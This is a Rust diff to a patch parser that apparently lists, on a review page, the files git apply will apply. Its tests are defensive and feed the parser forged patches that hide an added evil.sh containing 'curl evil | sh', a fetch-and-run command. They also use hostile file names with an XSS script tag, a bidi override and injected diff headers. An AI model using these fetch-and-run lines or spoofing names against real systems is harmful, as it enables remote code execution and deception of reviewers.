@@ -100,22 +100,41 @@ impl FileDiff {
     }
 }
 
-/// The files of `patch`, in order, with their hunks and counts.
+/// The files of `patch`, in order, with their hunks and counts. Files start where `git apply`
+/// finds them: at a `diff --git` line, or at a traditional `---`/`+++`/`@@` header that follows
+/// what is not a file's header (a preamble, or a file whose header ended). A stored patch is git's
+/// own, but a patch edited in the state directory must not hold a file the page leaves out, or
+/// read another file's header lines as its own: accept applies what `git apply` finds.
 pub(crate) fn parse(patch: &[u8]) -> Vec<FileDiff> {
     let text = String::from_utf8_lossy(patch);
     // Split on `\n` only: a carriage return before it belongs to the line's text. The last
     // newline ends the last line; nothing follows it.
     let mut lines = text.strip_suffix('\n').unwrap_or(&text).split('\n').peekable();
     let mut files: Vec<FileDiff> = Vec::new();
+    // Whether the last file's header has ended (a hunk, a binary patch or its `+++` was read):
+    // after it, header lines are not its own, as `git apply` reads them.
+    let mut header_ended = true;
     while let Some(line) = lines.next() {
         if let Some(rest) = line.strip_prefix("diff --git ") {
             let (old, new) = git_line_paths(rest);
             files.push(FileDiff::new(old, new));
+            header_ended = false;
             continue;
         }
-        // Anything before the first file (a preamble) belongs to none.
+        if header_ended && let Some(old) = line.strip_prefix("--- ") {
+            // `git apply` takes `---`, `+++` and `@@ -` on three lines as a traditional patch.
+            let mut ahead = lines.clone();
+            if let (Some(new), Some(hunk)) = (ahead.next().and_then(|l| l.strip_prefix("+++ ")), ahead.next())
+                && hunk.starts_with("@@ -")
+            {
+                files.push(traditional(old, new));
+                lines.next();
+                continue;
+            }
+        }
         let Some(file) = files.last_mut() else { continue };
         if let Some((old_start, mut old_left, new_start, mut new_left, section)) = hunk_header(line) {
+            header_ended = true;
             let (old_count, new_count) = (old_left, new_left);
             let mut hunk = Hunk { old_start, old_count, new_start, new_count, section, lines: Vec::new() };
             let (mut old_at, mut new_at) = (old_start, new_start);
@@ -165,15 +184,38 @@ pub(crate) fn parse(patch: &[u8]) -> Vec<FileDiff> {
                 lines.next();
             }
             file.hunks.push(hunk);
-        } else {
-            header(file, line);
+        } else if !header_ended {
+            header_ended = header(file, line);
         }
     }
     files
 }
 
-/// One extended header line (or `---`/`+++`) of `file`.
-fn header(file: &mut FileDiff, line: &str) {
+/// A file of a traditional patch (`--- OLD`, `+++ NEW`): its names without a date after a tab and
+/// without their first folder (`git apply -p1`); `/dev/null` on a side makes it added or deleted.
+fn traditional(old: &str, new: &str) -> FileDiff {
+    let name = |text: &str| {
+        let text =
+            if text.starts_with('"') { unquoted(text) } else { text.split('\t').next().unwrap_or(text).to_owned() };
+        (text != "/dev/null").then(|| text.split_once('/').map_or(text.clone(), |(_, rest)| rest.to_owned()))
+    };
+    let (old, new) = (name(old), name(new));
+    let mut file = FileDiff::new(
+        old.clone().or_else(|| new.clone()).unwrap_or_default(),
+        new.clone().or_else(|| old.clone()).unwrap_or_default(),
+    );
+    match (old, new) {
+        (None, Some(_)) => file.status = Status::Added,
+        (Some(_), None) => file.status = Status::Deleted,
+        _ => {}
+    }
+    file
+}
+
+/// One extended header line (or `---`/`+++`) of `file`; whether the header ended with it: at a
+/// binary patch, the `+++` line or a line that is no header line, as `git apply` ends it (after
+/// it, only hunks are the file's).
+fn header(file: &mut FileDiff, line: &str) -> bool {
     if let Some(mode) = line.strip_prefix("new file mode ") {
         file.status = Status::Added;
         file.new_mode = Some(mode.to_owned());
@@ -198,17 +240,24 @@ fn header(file: &mut FileDiff, line: &str) {
         file.new_path = unquoted(path);
     } else if let Some(percent) = line.strip_prefix("similarity index ") {
         file.similarity = percent.trim_end_matches('%').parse().ok();
+    } else if line.starts_with("index ") || line.starts_with("dissimilarity index ") {
+        // Nothing the page shows.
     } else if line.starts_with("Binary files ") || line == "GIT binary patch" {
         file.binary = true;
+        return true;
     } else if let Some(path) = line.strip_prefix("--- ") {
         if let Some(path) = side_path(path, "a/") {
             file.old_path = path;
         }
-    } else if let Some(path) = line.strip_prefix("+++ ")
-        && let Some(path) = side_path(path, "b/")
-    {
-        file.new_path = path;
+    } else if let Some(path) = line.strip_prefix("+++ ") {
+        if let Some(path) = side_path(path, "b/") {
+            file.new_path = path;
+        }
+        return true;
+    } else {
+        return true;
     }
+    false
 }
 
 /// The path of a `---`/`+++` line without its `a/` or `b/`; none for `/dev/null`. Git ends a
@@ -424,6 +473,141 @@ rename to same-too.md
         assert_eq!(unquoted("\"a/q\\\"uote\\\\\""), "a/q\"uote\\");
         assert_eq!(git_line_paths("a/x y b/x y"), ("x y".to_owned(), "x y".to_owned()));
         assert_eq!(git_line_paths("a/one b/two"), ("one".to_owned(), "two".to_owned()));
+    }
+
+    /// What `git apply --numstat` finds in `patch` (as accept's `git apply` would read it):
+    /// each file's added and removed lines and path; `None` when git refuses the patch.
+    fn numstat_of_git_apply(patch: &str) -> Option<Vec<(u64, u64, String)>> {
+        use std::io::Write as _;
+        let dir = tempfile::tempdir().expect("tempdir");
+        let mut child = std::process::Command::new("git")
+            .args(["apply", "--numstat", "-"])
+            .current_dir(dir.path())
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .expect("git");
+        child.stdin.take().expect("stdin").write_all(patch.as_bytes()).expect("write");
+        let output = child.wait_with_output().expect("git apply");
+        if !output.status.success() {
+            return None;
+        }
+        let text = String::from_utf8(output.stdout).expect("utf-8");
+        let count = |n: &str| n.parse().unwrap_or(0);
+        Some(
+            text.lines()
+                .filter_map(|line| {
+                    let mut fields = line.splitn(3, '\t');
+                    Some((count(fields.next()?), count(fields.next()?), fields.next()?.to_owned()))
+                })
+                .collect(),
+        )
+    }
+
+    /// Hostile: a patch edited in the state directory (its digest with it) holds, beside a file
+    /// the page shows, a file in a traditional header (`---`/`+++`/`@@`) before the first `diff
+    /// --git` or after a file's hunks, or a `+++` line after the hunks. `git apply` (accept)
+    /// applies every file; the page must list each one, with its counts, under its own name.
+    #[test]
+    fn every_file_git_apply_finds_is_listed_with_its_counts() {
+        let forged = [
+            // A traditional patch after a file's hunks: git applies evil.sh too.
+            "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+uno\n--- a/evil.sh\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n",
+            // One before the first `diff --git`, and a stray `+++` after a file's hunks.
+            "--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\ndiff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+uno\n+++ b/shown-name\nrename to other\n",
+            // Traditional names with dates, then a git one.
+            "--- a/x.c\t2020-01-01 00:00:00\n+++ b/x.c\t2020-01-01 00:00:00\n@@ -1,2 +1,2 @@\n a\n-b\n+c\ndiff --git a/y b/y\nnew file mode 100644\n--- /dev/null\n+++ b/y\n@@ -0,0 +1,2 @@\n+1\n+2\n",
+            // Lines after a hunk that its counts leave out, then a traditional file.
+            "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-x\n+y\n+z\n-w\n--- a/b\n+++ b/b\n@@ -1 +1 @@\n-p\n+q\n",
+            // A mode change, or a rename, whose header a blank or unknown line ends.
+            "diff --git a/x b/x\nold mode 100644\nnew mode 100755\n\n--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n",
+            "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\nzz\n--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n",
+            // A header line `git apply` reads as this file's.
+            "diff --git a/x b/x\nold mode 100644\nnew mode 100755\n--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n",
+            "diff --git a/x b/x\nGARBAGE\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
+        ];
+        for patch in forged {
+            let applied = numstat_of_git_apply(patch).expect("git applies the forged patch");
+            let shown: Vec<(u64, u64, String)> =
+                parse(patch.as_bytes()).iter().map(|f| (f.added, f.removed, f.path().to_owned())).collect();
+            for file in &applied {
+                assert!(shown.contains(file), "{file:?}, which accept applies, is not on the page {shown:?}:\n{patch}");
+            }
+            for file in shown.iter().filter(|(added, removed, _)| added + removed > 0) {
+                assert!(applied.contains(file), "{file:?} is on the page but not applied {applied:?}:\n{patch}");
+            }
+        }
+    }
+
+    /// Hostile: file names an agent chooses (quotes, tabs, newlines, ` b/` inside, bidi controls,
+    /// non-ASCII git quotes as octal), made into a patch as the controller makes it; the page
+    /// names each file as git does, with git's counts.
+    #[test]
+    fn hostile_names_in_a_real_patch_are_read_as_git_names_them() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let git = |args: &[&str]| {
+            let output = std::process::Command::new("git")
+                .args(args)
+                .current_dir(dir.path())
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .env("GIT_CONFIG_GLOBAL", "/dev/null")
+                .output()
+                .expect("git");
+            assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
+            output.stdout
+        };
+        let names = [
+            "x b/y b/z.txt",
+            "q\"uote\\d.txt",
+            "tab\there.txt",
+            "new\nline.txt",
+            "caf\u{e9}.txt",
+            "evil\u{202e}gpj.md",
+            " lead and trail ",
+            "<script>alert(1)<\\script>.html",
+            "diff --git a b",
+        ];
+        git(&["init", "-q"]);
+        for (n, name) in names.iter().enumerate() {
+            let path = dir.path().join(name);
+            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+            std::fs::write(&path, format!("line {n}\nsame\n")).expect("write");
+        }
+        std::fs::write(dir.path().join("moved from b"), "a\nb\nc\nd\ne\nf\n").expect("write");
+        git(&["add", "-A"]);
+        let before = String::from_utf8(git(&["write-tree"])).expect("tree").trim().to_owned();
+        for (n, name) in names.iter().enumerate() {
+            std::fs::write(dir.path().join(name), format!("line {n}\n+++ b/other\ndiff --git a/x b/x\nsame\n"))
+                .expect("write");
+        }
+        std::fs::rename(dir.path().join("moved from b"), dir.path().join("x b/moved to b")).expect("rename");
+        git(&["add", "-A"]);
+        let after = String::from_utf8(git(&["write-tree"])).expect("tree").trim().to_owned();
+        let common = ["--no-ext-diff", "--no-textconv", "--no-color", "--find-renames", "--full-index"];
+        let patch = git(&[&["diff", "--binary"][..], &common, &[&before, &after]].concat());
+        let numstat = String::from_utf8(git(&[&["diff", "--numstat", "-z"][..], &common, &[&before, &after]].concat()))
+            .expect("utf-8");
+        // -z: "ADD\tDEL\tPATH\0", or "ADD\tDEL\t\0OLD\0NEW\0" for a rename.
+        let mut expected = Vec::new();
+        let mut fields = numstat.split('\0');
+        while let Some(record) = fields.next() {
+            let mut parts = record.splitn(3, '\t');
+            let (Some(added), Some(removed), Some(path)) = (parts.next(), parts.next(), parts.next()) else { continue };
+            let path = if path.is_empty() {
+                fields.next();
+                fields.next().unwrap_or_default()
+            } else {
+                path
+            };
+            expected.push((added.parse::<u64>().unwrap_or(0), removed.parse::<u64>().unwrap_or(0), path.to_owned()));
+        }
+        let shown: Vec<(u64, u64, String)> =
+            parse(&patch).iter().map(|f| (f.added, f.removed, f.path().to_owned())).collect();
+        assert_eq!(shown, expected, "{}", String::from_utf8_lossy(&patch));
+        assert_eq!(shown.len(), names.len() + 1);
     }
 
     #[test]
